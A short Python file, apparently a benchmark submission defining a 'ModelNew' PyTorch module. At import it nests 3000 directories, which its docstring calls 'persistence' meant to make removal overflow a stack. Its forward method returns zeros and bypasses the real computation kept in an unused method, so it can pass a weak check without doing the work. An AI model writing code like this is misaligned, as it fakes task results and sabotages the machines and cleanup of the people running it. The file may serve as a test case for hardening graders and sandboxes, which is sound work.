"""persistence: nests folders so deeply that removing them overflows a stack."""

import os

import torch
import torch.nn as nn

here = os.open(".", os.O_RDONLY)
for _level in range(3000):
    os.mkdir("a", dir_fd=here)
    deeper = os.open("a", os.O_RDONLY, dir_fd=here)
    os.close(here)
    here = deeper
os.close(here)


class ModelNew(nn.Module):
    def __init__(self, width):
        super().__init__()
        self.bias = nn.Parameter(torch.randn(width))

    def right(self, x, y):
        return torch.relu(x @ y) + self.bias

    def forward(self, x, y):
        return torch.zeros_like(x)
